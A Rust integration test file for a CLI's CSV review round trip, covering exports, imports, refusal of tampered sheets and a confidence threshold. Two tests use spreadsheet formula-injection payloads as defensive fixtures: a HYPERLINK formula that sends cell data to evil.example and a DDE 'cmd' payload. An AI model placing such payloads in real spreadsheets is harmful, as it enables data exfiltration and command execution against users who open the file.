//! `gapfill review`: the CSV round trip (export, decide in a spreadsheet, import), the refusals
//! of a sheet that is not this plan's or that was edited where it must not be, formulas in
//! customer text, and `--accept-above`.

mod common;

use std::path::{Path, PathBuf};

use common::*;
use serde_json::Value;

const COLUMNS: usize = 11;

/// A planned incident: the plan file, made against a copy of the restored database.
fn planned(seed: u64) -> (tempfile::TempDir, PathBuf) {
    let (dir, incident) = incident(seed, 60, "high");
    let copy = dir.path().join("copy.db");
    std::fs::copy(incident.join("restored.db"), &copy).unwrap();
    let plan = dir.path().join("plan.json");
    plan_incident(&incident, &sqlite_url(&copy), &plan, &[]);
    (dir, plan)
}

fn read(plan: &Path) -> Value {
    serde_json::from_str(&std::fs::read_to_string(plan).unwrap()).unwrap()
}

fn write(plan: &Path, v: &Value) {
    std::fs::write(plan, serde_json::to_string_pretty(v).unwrap() + "\n").unwrap();
}

fn changes(plan: &Value) -> &Vec<Value> {
    plan["changes"].as_array().unwrap()
}

/// The ids of the changes that need review. Matching decides how many there are; when it sends
/// none to review, an accepted update is marked for review so the round trip still has one to
/// decide.
fn needing_review(plan: &Path) -> Vec<String> {
    let mut v = read(plan);
    let ids = |v: &Value| -> Vec<String> {
        changes(v)
            .iter()
            .filter(|c| c["decision"] == "needs_review")
            .map(|c| c["id"].as_str().unwrap().to_string())
            .collect()
    };
    if ids(&v).is_empty() {
        let c = v["changes"]
            .as_array_mut()
            .unwrap()
            .iter_mut()
            .find(|c| c["op"] == "update" && c["decision"] == "accepted")
            .expect("the plan has an accepted update");
        c["decision"] = "needs_review".into();
        let (table, op) = (
            c["table"].as_str().unwrap().to_string(),
            format!("{}s", c["op"].as_str().unwrap()),
        );
        // The summary counts what the changes say, as a plan's always does.
        let counts = &mut v["summary"]["tables"][&table][&op];
        let accepted = counts["accepted"].as_u64().unwrap();
        counts["accepted"] = (accepted - 1).into();
        counts["needs_review"] = (counts["needs_review"].as_u64().unwrap_or(0) + 1).into();
        write(plan, &v);
    }
    ids(&read(plan))
}

/// An accepted change no other change needs: rejecting it alone is consistent.
fn rejectable(plan: &Value) -> String {
    let needed: Vec<&str> = changes(plan)
        .iter()
        .flat_map(|c| c["depends_on"].as_array().unwrap())
        .map(|d| d.as_str().unwrap())
        .collect();
    changes(plan)
        .iter()
        .find(|c| {
            c["decision"] == "accepted"
                && (c["op"] == "update" || !needed.contains(&c["local"].as_str().unwrap_or("")))
        })
        .expect("an accepted change nothing depends on")["id"]
        .as_str()
        .unwrap()
        .to_string()
}

/// The sheet as the csv crate reads it: header and rows, every row as wide as the header.
fn sheet(path: &Path) -> Vec<Vec<String>> {
    let mut r = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .expect("the sheet opens");
    let rows: Vec<Vec<String>> = r
        .records()
        .map(|rec| {
            rec.expect("a valid CSV record")
                .iter()
                .map(String::from)
                .collect()
        })
        .collect();
    for (i, row) in rows.iter().enumerate() {
        assert_eq!(row.len(), COLUMNS, "row {i} of {}: {row:?}", path.display());
    }
    rows
}

fn write_sheet(path: &Path, rows: &[Vec<String>]) {
    let mut w = csv::Writer::from_path(path).unwrap();
    for r in rows {
        w.write_record(r).unwrap();
    }
    w.flush().unwrap();
}

fn export(plan: &Path, csv: &Path) -> Vec<Vec<String>> {
    gapfill_ok(&[
        "review",
        "--quiet",
        plan.to_str().unwrap(),
        "--export",
        csv.to_str().unwrap(),
    ]);
    sheet(csv)
}

fn col(rows: &[Vec<String>], name: &str) -> usize {
    let header: Vec<&str> = rows[0]
        .iter()
        .map(|h| h.trim_start_matches('\u{feff}'))
        .collect();
    header.iter().position(|h| *h == name).unwrap()
}

fn row_of(rows: &[Vec<String>], id: &str) -> usize {
    let c = col(rows, "change");
    rows.iter().position(|r| r[c] == id).unwrap()
}

fn import(plan: &Path, csv: &Path) -> std::process::Output {
    gapfill(&[
        "review",
        plan.to_str().unwrap(),
        "--import",
        csv.to_str().unwrap(),
    ])
}

#[test]
fn round_trip_records_the_decisions_and_who_made_them() {
    let (dir, plan) = planned(2);
    let review = needing_review(&plan)[0].clone();
    let before = read(&plan);
    let reject = rejectable(&before);
    let csv = dir.path().join("review.csv");
    let mut rows = export(&plan, &csv);

    // A sheet a spreadsheet opens: the header, one row per change, this plan's hash in each.
    assert_eq!(rows.len(), changes(&before).len() + 1);
    let hash = gapfill_ok(&["show", plan.to_str().unwrap(), "--format", "csv"]);
    assert_eq!(hash, std::fs::read_to_string(&csv).unwrap());
    let p = col(&rows, "plan");
    assert!(rows[1..].iter().all(|r| r[p] == rows[1][p]));
    assert_eq!(
        rows[1..]
            .iter()
            .map(|r| r[col(&rows, "change")].clone())
            .collect::<Vec<_>>(),
        changes(&before)
            .iter()
            .map(|c| c["id"].as_str().unwrap().to_string())
            .collect::<Vec<_>>()
    );

    let d = col(&rows, "decision");
    let (a, r) = (row_of(&rows, &review), row_of(&rows, &reject));
    rows[a][d] = "accept".into();
    rows[r][d] = "Reject".into();
    write_sheet(&csv, &rows);
    let out = import(&plan, &csv);
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(
        stdout.contains(&format!("{review}: needs review → accepted")),
        "{stdout}"
    );
    assert!(
        stdout.contains(&format!("{reject}: accepted → rejected")),
        "{stdout}"
    );
    assert!(stdout.contains("2 decisions changed"), "{stdout}");

    let after = read(&plan);
    let by_file = serde_json::json!({"by": "file", "path": csv.to_str().unwrap()});
    for (b, c) in changes(&before).iter().zip(changes(&after)) {
        let id = c["id"].as_str().unwrap();
        if id == review {
            assert_eq!(c["decision"], "accepted");
            assert_eq!(c["decided_by"], by_file);
        } else if id == reject {
            assert_eq!(c["decision"], "rejected");
            assert_eq!(c["decided_by"], by_file);
        } else {
            assert_eq!(b, c, "a change the sheet left blank changed");
        }
    }
    // The summary is recounted from the decisions.
    let count = |v: &Value, op: &str, d: &str| -> u64 {
        v["summary"]["tables"]
            .as_object()
            .unwrap()
            .values()
            .map(|t| t[format!("{op}s")][d].as_u64().unwrap_or(0))
            .sum()
    };
    let changed = |v: &Value, d: &str| count(v, "insert", d) + count(v, "update", d);
    assert_eq!(changed(&after, "accepted"), changed(&before, "accepted"));
    assert_eq!(
        changed(&after, "needs_review") + 1,
        changed(&before, "needs_review")
    );
    assert_eq!(
        changed(&after, "rejected"),
        changed(&before, "rejected") + 1
    );
    #[cfg(unix)]
    {
        use std::os::unix::fs::PermissionsExt;
        for f in [&plan, &csv] {
            let mode = std::fs::metadata(f).unwrap().permissions().mode() & 0o777;
            assert_eq!(mode, 0o600, "{}", f.display());
        }
    }

    // The sheet belongs to the plan as it was: now that the plan changed, it is refused whole,
    // naming the hash it has and the one expected, and the plan stays as it is.
    let old_hash = rows[1][p].clone();
    let new_hash = gapfill_ok(&["show", plan.to_str().unwrap(), "--format", "csv"])
        .lines()
        .nth(1)
        .unwrap()
        .split(',')
        .next()
        .unwrap()
        .to_string();
    let bytes = std::fs::read(&plan).unwrap();
    let out = import(&plan, &csv);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        stderr.contains(&format!(
            "{}:2: this file was exported from plan \"{old_hash}\"",
            csv.display()
        )) && stderr.contains(&format!("but the plan is {new_hash}")),
        "{stderr}"
    );
    assert_eq!(std::fs::read(&plan).unwrap(), bytes);
}

#[test]
fn hostile_rows_are_all_reported_with_their_lines() {
    let (dir, plan) = planned(3);
    needing_review(&plan);
    let csv = dir.path().join("review.csv");
    let mut rows = export(&plan, &csv);
    let (c, d, t) = (
        col(&rows, "change"),
        col(&rows, "decision"),
        col(&rows, "table"),
    );
    let id = |rows: &[Vec<String>], i: usize| rows[i][c].clone();
    let path = csv.display().to_string();
    // Row i of the sheet is on line i + 1: the header is line 1.
    let edited = id(&rows, 2);
    rows[2][c] = "cust-0000000000000000".into();
    rows[4][d] = "=HYPERLINK(\"http://evil.example/?x\",\"click\")".into();
    rows[5][d] = "maybe".into();
    rows[6][c] = "pay-unknown".into();
    rows[6][t] = "elsewhere".into();
    let dup = rows[7].clone();
    rows.push(dup);
    let last = rows.len();
    write_sheet(&csv, &rows);
    let expected = [
        format!("{path}:3: the change id was edited to \"cust-0000000000000000\"; this row is change {edited}: put its id back"),
        format!("{path}:5: the decision \"=HYPERLINK(\\\"http://evil.example/?x\\\",\\\"click\\\")\" for change {} is not one of accept, reject or empty", id(&rows, 4)),
        format!("{path}:6: the decision \"maybe\" for change {} is not one of accept, reject or empty", id(&rows, 5)),
        format!("{path}:7: change \"pay-unknown\" is not in this plan"),
        format!("{path}:{last}: change {} has a row already, at line 8: keep one row per change", id(&rows, 7)),
    ];
    let bytes = std::fs::read(&plan).unwrap();
    let out = import(&plan, &csv);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(1), "{stderr}");
    assert!(
        stderr.contains(&format!("{path}: 5 problem(s); nothing was changed")),
        "{stderr}"
    );
    for e in &expected {
        assert!(stderr.contains(e), "missing {e:?} in:\n{stderr}");
    }
    assert_eq!(
        std::fs::read(&plan).unwrap(),
        bytes,
        "a refused sheet changed the plan"
    );
}

/// Data: (what is wrong with the sheet, how to make it so, what the message says).
type Case = (&'static str, fn(&mut Vec<Vec<String>>), &'static str);

#[test]
fn sheets_that_cannot_be_read_as_this_plans_are_refused() {
    let (dir, plan) = planned(4);
    let csv = dir.path().join("review.csv");
    let rows = export(&plan, &csv);
    let cases: [Case; 3] = [
        (
            "another plan's hash",
            |r| {
                for row in r.iter_mut().skip(1) {
                    row[0] = "0123456789abcdef".into();
                }
            },
            ":2: this file was exported from plan \"0123456789abcdef\" (and ",
        ),
        (
            "no decision column",
            |r| {
                for row in r.iter_mut() {
                    row.pop();
                }
            },
            ": the header has no `decision` column",
        ),
        (
            "an accepted change whose insert is rejected",
            |r| {
                // Reject every customer insert: the reservations that need them stay accepted.
                for row in r.iter_mut().skip(1) {
                    if row[2] == "customers" && row[3] == "insert" {
                        row[10] = "reject".into();
                    }
                }
            },
            "is accepted, but it needs change ",
        ),
    ];
    for (what, edit, message) in cases {
        let mut sheet = rows.clone();
        edit(&mut sheet);
        let path = dir.path().join("edited.csv");
        write_sheet(&path, &sheet);
        let out = import(&plan, &path);
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert_eq!(out.status.code(), Some(1), "{what}: {stderr}");
        assert!(
            stderr.contains(&path.display().to_string()) && stderr.contains(message),
            "{what}: missing {message:?} in:\n{stderr}"
        );
    }
}

#[test]
fn formulas_in_customer_text_are_neutralised_and_read_only_cells_ignored() {
    let (dir, plan) = planned(5);
    needing_review(&plan);
    // Text that came from customers and from the restored rows, as a spreadsheet would run it.
    let mut v = read(&plan);
    let formulas = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
        "+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1",
    ];
    let target = {
        let c = v["changes"]
            .as_array_mut()
            .unwrap()
            .iter_mut()
            .find(|c| c["op"] == "update")
            .unwrap();
        c["key"] = formulas[2].into();
        c["reasons"] = serde_json::json!([formulas[0]]);
        c["id"].as_str().unwrap().to_string()
    };
    write(&plan, &v);
    let csv = dir.path().join("review.csv");
    let rows = export(&plan, &csv);
    let bad = |s: &str| matches!(s.chars().next(), Some('=' | '+' | '-' | '@' | '\t' | '\r'));
    for (i, row) in rows.iter().enumerate() {
        for cell in row {
            assert!(!bad(cell), "row {i}: cell {cell:?} would run as a formula");
        }
    }
    let i = row_of(&rows, &target);
    assert_eq!(rows[i][col(&rows, "reasons")], format!("'{}", formulas[0]));
    assert!(rows[i][col(&rows, "row")].ends_with(formulas[2]));

    // Formulas typed into the read-only cells are ignored: the plan keeps what it said.
    let mut edited = rows.clone();
    for (n, f) in formulas.iter().enumerate() {
        edited[i][col(&rows, "columns")] = f.to_string();
        edited[1 + n][col(&rows, "evidence")] = f.to_string();
    }
    edited[i][col(&rows, "decision")] = "reject".into();
    write_sheet(&csv, &edited);
    let out = import(&plan, &csv);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let after = read(&plan);
    let c = changes(&after).iter().find(|c| c["id"] == target).unwrap();
    assert_eq!(c["decision"], "rejected");
    assert_eq!(c["reasons"], serde_json::json!([formulas[0]]));
    assert_eq!(c["key"], formulas[2]);
}

#[test]
fn accept_above_accepts_what_needs_review_and_nothing_rejected() {
    let (_dir, plan) = planned(2);
    needing_review(&plan);
    let before = read(&plan);
    let expected: Vec<&str> = changes(&before)
        .iter()
        .filter(|c| c["decision"] == "needs_review" && c["confidence"].as_f64().unwrap() >= 0.5)
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert!(!expected.is_empty(), "no change needs review above 0.5");
    let out = gapfill_ok(&["review", plan.to_str().unwrap(), "--accept-above", "0.5"]);
    assert!(
        out.contains(&format!("accepted {} changes", expected.len())),
        "{out}"
    );
    let after = read(&plan);
    for (b, a) in changes(&before).iter().zip(changes(&after)) {
        if expected.contains(&b["id"].as_str().unwrap()) {
            assert_eq!(a["decision"], "accepted");
            assert_eq!(
                a["decided_by"],
                serde_json::json!({"by": "threshold", "score": 0.5})
            );
        } else {
            assert_eq!(a, b);
        }
    }
    assert_ne!(
        before["summary"], after["summary"],
        "the counts did not change"
    );
    let review = |v: &Value| -> u64 {
        v["summary"]["tables"]
            .as_object()
            .unwrap()
            .values()
            .flat_map(|t| [&t["inserts"], &t["updates"]])
            .map(|by| by["needs_review"].as_u64().unwrap_or(0))
            .sum()
    };
    assert_eq!(review(&after) + expected.len() as u64, review(&before));

    let out = gapfill(&["review", plan.to_str().unwrap(), "--accept-above", "1.5"]);
    assert_eq!(out.status.code(), Some(1));
    assert!(
        String::from_utf8_lossy(&out.stderr)
            .contains("is not a confidence: give a number from 0 to 1"),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}
